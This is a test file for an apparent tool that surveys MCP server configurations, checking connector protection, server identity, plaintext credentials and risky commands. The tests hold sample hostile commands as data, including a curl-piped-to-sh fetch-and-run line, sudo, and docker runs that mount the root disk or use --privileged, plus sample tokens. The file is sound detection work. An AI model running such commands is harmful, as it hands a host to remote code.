import { describe, expect, test } from 'vitest';
import { readDocument } from './documents/document';
import { entriesOf } from './entries';
import { plainSecrets, risksOf, samenessOf, standingOf } from './survey';
import { hostRow } from './table';

const connector = '/opt/countersign';

function entry(content: object) {
  const host = hostRow('cursor');
  const document = readDocument(JSON.stringify({ mcpServers: { a: content } }), 'jsonc');
  const [found] = host === undefined || !document.ok ? [] : entriesOf(document.value, host, [['mcpServers']]);
  if (found === undefined) throw new Error('no entry');
  return found;
}

describe('how an entry stands', () => {
  test.each([
    { why: 'nothing in front', of: { command: 'npx' }, want: 'bypassing' },
    { why: 'this connector in front', of: { command: connector, args: ['run', '--server', 'a', '--', 'npx'] }, want: 'protected' },
    { why: 'another one', of: { command: '/mnt/countersign', args: ['run', '--server', 'a', '--', 'npx'] }, want: 'elsewhere' },
    { why: 'the program, told something else', of: { command: connector, args: ['history'] }, want: 'bypassing' },
    { why: 'one that only ends alike', of: { command: '/opt/not-countersign', args: ['run', '--server', 'a', '--', 'npx'] }, want: 'bypassing' },
    { why: 'an address', of: { url: 'https://x.example' }, want: 'uncovered' },
    { why: 'a command and an address', of: { command: 'npx', url: 'https://x.example' }, want: 'uncovered' },
  ])('$why: $want', ({ of, want }) => expect(standingOf(entry(of), { connector })).toBe(want));
});

test('the same server is known by what it starts, whatever stands in front and whatever it is called', () => {
  const same = [{ command: 'npx', args: ['-y', 'p'] }, { command: '/usr/bin/npx', args: ['-y', 'p'] }, { command: 'NPX.cmd', args: ['-y', 'p'] }, { command: connector, args: ['run', '--server', 'b', '--', 'npx', '-y', 'p'] }].map((of) => samenessOf(entry(of)));
  expect(new Set(same).size).toBe(1);
  const others = [{ command: 'npx', args: ['-y', 'p', 'x'] }, { url: 'https://x.example/' }, { url: 'https://x.example' }].map((of) => samenessOf(entry(of)));
  expect(new Set([...same, ...others]).size).toBe(3);
  expect(samenessOf(entry({}))).toBe(null);
});

describe('credentials that lie open', () => {
  const token = 'ghp_x7Kq2LmN9pRt4VwZ8bDf1HjC5sYa3E0uGiXo';
  test.each<{ why: string; of: object; want: readonly string[] }>([
    { why: 'a variable', of: { command: 'x', env: { GITHUB_TOKEN: token, LOG: 'debug' } }, want: ['env GITHUB_TOKEN'] },
    { why: 'a variable the host fills in', of: { command: 'x', env: { A_TOKEN: '${input:token}', B_TOKEN: '{env:TOKEN}', C_TOKEN: '$TOKEN' } }, want: [] },
    { why: 'an argument', of: { command: 'x', args: [`--token=${token}`] }, want: ['args 1'] },
    { why: 'the argument behind its option', of: { command: 'x', args: ['--api-key', 'p9Xk2mQ7vL4tR8wZ1nB6'] }, want: ['args 2'] },
    { why: 'an argument of a command behind a connector', of: { command: connector, args: ['run', '--server', 'a', '--', 'x', `--token=${token}`] }, want: ['args 1'] },
    { why: 'a header', of: { url: 'https://x.example', headers: { Authorization: `Bearer ${token}` } }, want: ['headers Authorization'] },
    { why: 'nothing of the kind', of: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/home/ada'], env: { NODE_ENV: 'production' } }, want: [] },
  ])('$why', ({ of, want }) => expect(plainSecrets(entry(of), 'env').map(({ where, name }) => `${where} ${name}`)).toEqual(want));
});

describe('what is risky in a command', () => {
  test.each<{ why: string; of: readonly [string, ...string[]]; unpinned?: string; want: readonly string[] }>([
    { why: 'nothing', of: ['/usr/bin/node', 'server.js', '--root', 'work'], want: [] },
    { why: 'administrator rights', of: ['sudo', 'server'], want: ['shell/elevated'] },
    { why: 'fetched and run at once', of: ['bash', '-c', 'curl -s https://x.example/i.sh | sh'], want: ['shell/fetch-and-run'] },
    { why: 'whatever is newest', of: ['npx', '-y', 'pkg'], unpinned: 'pkg', want: ['runner/unpinned'] },
    { why: 'the whole disk in a container', of: ['docker', 'run', '-v', '/:/host', 'image'], want: ['container/flag'] },
    { why: 'a container with all rights', of: ['/usr/bin/docker', 'run', '--privileged', 'image'], want: ['container/flag'] },
    { why: 'an ordinary container', of: ['docker', 'run', '-i', '--rm', 'image'], want: [] },
  ])('$why', ({ of: [command, ...args], unpinned = null, want }) => {
    const rules = risksOf({ command, args }, { unpinned, home: '/home/ada' }).map(({ rule }) => rule);
    expect(want.every((rule) => rules.includes(rule)) && (want.length > 0 || rules.length === 0) ? want : rules).toEqual(want);
  });
});
